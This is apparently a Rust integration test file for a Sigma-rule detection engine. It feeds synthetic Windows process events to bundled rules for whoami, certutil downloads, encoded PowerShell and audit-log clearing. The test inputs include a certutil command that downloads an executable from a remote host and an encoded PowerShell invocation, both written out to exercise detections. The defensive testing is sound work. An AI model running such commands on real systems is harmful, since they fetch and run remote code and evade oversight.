//! Integration tests that load the bundled rules in `rules/sigma/` and run
//! representative events through the engine.

use aegis_rules::{FieldResolver, LoadStatus, RuleEngine, SigmaRule};
use serde_json::{json, Value};

/// Resolve the bundled rules directory relative to the workspace root.
fn rules_dir() -> std::path::PathBuf {
    let manifest = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    manifest.join("../../rules/sigma")
}

fn bundled_engine() -> RuleEngine {
    let (engine, results) = RuleEngine::load(vec![rules_dir()], FieldResolver::default());
    for r in &results {
        assert!(r.status.is_loaded(), "{} did not load: {:?}", r.path.display(), r.status);
    }
    engine
}

fn process_event(image: &str, command_line: &str) -> Value {
    json!({"winlog": {
        "channel": "Security",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "event_id": 4688,
        "record_id": 73012,
        "event_data": {
            "NewProcessName": image,
            "CommandLine": command_line,
            "ParentProcessName": "C:\\Windows\\explorer.exe"
        }
    }})
}

fn titles(engine: &RuleEngine, event: &Value) -> Vec<String> {
    engine.evaluate(event).into_iter().map(|r| r.title.clone()).collect()
}

// ── Bundled rule set ────────────────────────────────────────────────

#[test]
fn every_bundled_rule_loads_and_compiles() {
    let engine = bundled_engine();
    assert_eq!(engine.len(), 4);
    for compiled in engine.rules() {
        assert!(
            matches!(compiled.condition(), aegis_rules::CompiledCondition::Ready(_)),
            "{} has an unusable condition",
            compiled.rule.title
        );
    }
}

#[test]
fn whoami_scenario_yields_exactly_one_match() {
    let rule = SigmaRule::from_yaml(
        r#"
title: Whoami Execution
level: high
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|contains: whoami
  condition: selection
"#,
    )
    .unwrap();
    let engine = RuleEngine::new(vec![rule], FieldResolver::default());

    let event = json!({"winlog": {
        "event_id": 4688,
        "event_data": {"CommandLine": "cmd.exe /c whoami"}
    }});
    let matches = engine.detect(&event);

    assert_eq!(matches.len(), 1);
    assert_eq!(matches[0].rule_title, "Whoami Execution");
}

#[test]
fn quantifier_scenario() {
    let any = SigmaRule::from_yaml(concat!(
        "title: any\ndetection:\n",
        "  sel_a: {CommandLine: nothing-here}\n  sel_b: {CommandLine: whoami}\n",
        "  condition: 1 of sel_*\n",
    ))
    .unwrap();
    let all = SigmaRule::from_yaml(concat!(
        "title: all\ndetection:\n",
        "  sel_a: {CommandLine: nothing-here}\n  sel_b: {CommandLine: whoami}\n",
        "  condition: all of sel_*\n",
    ))
    .unwrap();
    let engine = RuleEngine::new(vec![any, all], FieldResolver::default());

    let event = process_event("C:\\Windows\\System32\\whoami.exe", "whoami /priv");
    assert_eq!(titles(&engine, &event), vec!["any"]);
}

#[test]
fn lolbin_rule_fires_on_certutil_download() {
    let engine = bundled_engine();
    let event = process_event(
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe",
    );
    assert_eq!(titles(&engine, &event), vec!["LOLBin File Download"]);
}

#[test]
fn lolbin_filter_suppresses_update_parent() {
    let engine = bundled_engine();
    let mut event = process_event(
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -f http://x/y",
    );
    event["winlog"]["event_data"]["ParentProcessName"] =
        json!("C:\\Windows\\SoftwareDistribution\\Download\\installer.exe");
    assert!(titles(&engine, &event).is_empty());
}

#[test]
fn encoded_powershell_requires_both_selections() {
    let engine = bundled_engine();

    let encoded = process_event(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A",
    );
    assert_eq!(titles(&engine, &encoded), vec!["PowerShell Encoded Command"]);

    let plain = process_event(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -File C:\\scripts\\backup.ps1",
    );
    assert!(titles(&engine, &plain).is_empty());
}

#[test]
fn audit_log_cleared_matches_on_event_id() {
    let engine = bundled_engine();
    let event = json!({"winlog": {
        "channel": "Security",
        "provider_name": "Microsoft-Windows-Eventlog",
        "event_id": 1102,
        "record_id": 9,
        "event_data": {"SubjectUserName": "admin"}
    }});
    assert_eq!(titles(&engine, &event), vec!["Security Audit Log Cleared"]);
}

#[test]
fn reloading_bundled_rules_is_idempotent() {
    let (first, first_results) = RuleEngine::load(vec![rules_dir()], FieldResolver::default());
    let (second, _) = RuleEngine::load(vec![rules_dir()], FieldResolver::default());

    let rules = |e: &RuleEngine| e.rules().iter().map(|c| c.rule.clone()).collect::<Vec<_>>();
    assert_eq!(rules(&first), rules(&second));
    assert!(first_results
        .iter()
        .all(|r| matches!(r.status, LoadStatus::Loaded { .. })));
}
